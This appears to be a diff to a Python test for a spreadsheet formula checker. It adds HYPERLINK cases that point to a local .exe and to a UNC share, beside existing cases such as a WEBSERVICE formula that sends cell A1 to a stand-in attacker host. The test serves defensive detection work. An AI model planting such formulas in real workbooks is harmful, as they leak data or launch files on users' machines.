@@ -49,6 +49,8 @@ def test_workbooks_of_citizens_are_taken(content):
         ('_xlfn.WEBSERVICE("http://evil.example/?"&A1)', "remote"),
         ('_xlfn.IMAGE("http://evil.example/a.png")', "remote"),
         ('RTD("evil",,"x")', "remote"),
+        ('HYPERLINK("file:///c:/evil.exe","点")', "actions"),
+        ('HYPERLINK("\\\\\\\\evil\\\\x","点")', "actions"),
         ("'\\\\evil\\share\\[a.xlsx]Sheet1'!A1", "remote"),
         ("'https://evil.example/[a.xlsx]Sheet1'!A1", "remote"),
     ],
